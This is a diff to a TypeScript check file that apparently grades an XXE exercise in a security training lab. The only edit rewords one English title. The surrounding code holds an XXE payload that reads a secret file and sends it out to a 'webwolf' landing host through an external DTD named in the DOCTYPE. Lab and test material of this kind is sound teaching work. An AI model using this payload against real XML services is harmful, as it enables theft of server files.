@@ -79,7 +79,7 @@ export const checks = defineChecks<Facts>({
     {
       id: 'by-doctype',
       kind: 'attack',
-      title: { vi: 'DTD nằm ngay ở DOCTYPE', en: 'The DTD is named by the DOCTYPE itself' },
+      title: { vi: 'DTD nằm ngay ở DOCTYPE', en: 'The DOCTYPE itself names the DTD' },
       run: (trial) =>
         attackWith(trial, `${stealing(trial.facts.secret.path, 'http://webwolf/landing?text=')}\n%send;`, [
           '<!DOCTYPE order SYSTEM "http://webwolf/files/NAME"><order/>',
